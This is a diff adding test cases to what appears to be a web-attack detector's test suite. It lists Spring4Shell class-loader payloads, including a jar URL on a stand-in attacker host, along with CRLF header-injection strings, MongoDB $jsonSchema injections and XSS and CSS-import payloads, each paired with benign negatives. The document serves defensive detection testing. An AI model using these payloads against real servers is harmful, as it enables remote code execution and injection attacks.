@@ -817,3 +817,22 @@ t.test("(sixty-first round, tuned on the spent hundred-and-forty-second, -fourth
   for (const v of ["<style lang=\"scss\" scoped>\n\n  @import './internal/language-names';\n\n  .globe {\n    right: -4px;\n  }\n</style>\n", "<style lang=\"scss\" scoped>\n  @import '~kolibri-design-system/lib/styles/definitions';\n</style>\n"]) t.same(json({ snippet: v }), [], v.slice(0, 60))
   for (const v of ["<style>@import 'evil'</style>", "<style>@import'http://0r.pe/xss.css';</style>", '<style>@import url(//evil.example/x);</style>', '<style>@import "x";</style>', '<style lang="scss">@import "//evil.example/x";</style>', '<style lang="scss">@import "http://evil.example/x";</style>', "<style>@import 'x'; body{background:url(javascript:alert(1))}</style>", "<style>@import 'a';</style><img src=x onerror=alert(1)>"]) t.ok(q(v).includes('xss'), v)
 })
+
+t.test('(sixty-second round, the spent hundred-and-thirty-ninth and -forty-third parts\' misses) a field named for the class loader (Spring4Shell); a break after a cookie\'s pairs; `$jsonSchema` in brackets', async (t) => {
+  const pair = (query: string) => detector.detect({ ...base, query })
+  for (const v of [
+    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
+    'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
+    'class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT',
+    'class.classLoader.URLs%5B0%5D=jar:http://evil.example/x.jar!/',
+    "class%5B'classLoader'%5D.resources=x",
+  ]) t.ok(pair(v).includes('rce'), v)
+  t.ok(q('class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i').includes('rce'), 'in a value too')
+  for (const v of ['class.name=x', 'classes.classloader=1', 'classLoader=x', 'myclass.classLoader.x=1']) t.notOk(pair(v).includes('rce'), v)
+  for (const v of ['def url = this.class.classLoader.getResource("config.yml")', 'InputStream in = getClass().getClassLoader().getResourceAsStream("a");']) t.notOk(q(v).includes('rce'), v)
+  // a value written into a Set-Cookie line: its pairs, each ended by `; `, then a break and a header
+  for (const v of ['value1; test2=malicious%0d%0aContent-Type: text/html', 'malicious; Set-Cookie: test2=malicious%0d%0aContent-Type: text/html', 'a; b; c\r\nLocation: http://evil.example/']) t.ok(q(v).includes('crlf'), v)
+  for (const v of ['Use a; b\nContent-Type: x', 'hello world; see you\nContent-Type: text', 'a; b']) t.notOk(q(v).includes('crlf'), v)
+  // `$jsonSchema` in a field's brackets, as `$ne` is read there
+  for (const v of ['%5B%24jsonSchema%5D%5Bproperties%5D%5Busername%5D%5Btype%5D=string', 'filter[$jsonSchema][required][0]=password']) t.ok(pair(v).includes('nosqli'), v)
+})
